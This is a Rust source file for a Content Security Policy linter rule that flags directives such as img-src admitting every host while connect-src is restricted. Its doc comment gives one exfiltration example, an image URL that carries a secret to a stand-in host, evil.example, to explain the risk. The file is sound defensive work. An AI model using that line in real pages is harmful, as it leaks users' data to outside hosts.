use crate::rules::prelude::*;

declare_rule! {
    /// ## What it finds
    ///
    /// A directive that admits every host, while connections are restricted: `img-src *`, `form-action https:`.
    ///
    /// ## Why it matters
    ///
    /// `connect-src` closes one way out. `new Image().src = 'https://evil.example/?' + secret` takes another one. A policy keeps data in
    /// only as well as its most open directive.
    ///
    /// ## Examples
    ///
    /// ```csp fires
    /// default-src 'self'; connect-src 'self'; img-src * data:
    /// ```
    ///
    /// ```csp passes
    /// default-src 'self'; connect-src 'self'; img-src 'self' https://images.example.com
    /// ```
    ///
    /// ## Browsers
    ///
    /// All alike.
    ///
    /// ## Fix
    ///
    /// None is automatic: name the hosts.
    ///
    /// ## References
    ///
    /// - <https://w3c.github.io/webappsec-csp/#exfiltration>
    /// - <https://github.blog/engineering/platform-security/githubs-post-csp-journey/>
    "open-channel", Exposure, Some(Severity::Warning), "another directive admits every host, while connections are restricted"
}

fn check(context: &Context<'_>, report: &mut Report<'_>) {
    let is_open = |view: &PolicyView<'_>| {
        view.governing(DirectiveName::ConnectSrc)
            .is_none_or(|directive| directive.open_source().is_some())
    };
    if context.deciding().all(is_open) {
        return;
    }
    for view in context.deciding() {
        for directive in view.lists() {
            let Some(what) = directive.name.and_then(carries) else {
                continue;
            };
            if let Some(source) = directive
                .open_source()
                .filter(|_| is_open_in_all(context, directive))
            {
                report.add(view, source.span, finding(directive, source, what));
            }
        }
    }
}

/// Whether no other deciding policy closes it.
fn is_open_in_all(context: &Context<'_>, directive: &DirectiveView<'_>) -> bool {
    directive.name.is_some_and(|name| {
        let mut governing = context.deciding().filter_map(|view| view.governing(name));
        governing.all(|one| one.open_source().is_some())
    })
}

/// By what data leaves.
fn carries(name: DirectiveName) -> Option<&'static str> {
    use DirectiveName as D;
    Some(match name {
        D::ImgSrc => "images",
        D::MediaSrc => "audio and video",
        D::FontSrc => "fonts",
        D::StyleSrc | D::StyleSrcElem => "style sheets",
        D::FrameSrc | D::ChildSrc => "frames",
        D::ObjectSrc => "objects",
        D::ManifestSrc => "the manifest",
        D::ScriptSrc | D::ScriptSrcElem => "scripts",
        D::WorkerSrc => "workers",
        D::FormAction => "forms",
        _ => return None,
    })
}

fn finding(directive: &DirectiveView<'_>, source: &SourceView<'_>, what: &str) -> Finding {
    Finding::new(
        format!(
            "`{}` in `{}` lets data leave to every host",
            source.text,
            directive.shown_name()
        ),
        format!("what `connect-src` keeps in, a script sends in the URL of {what}"),
        "name the hosts",
    )
}
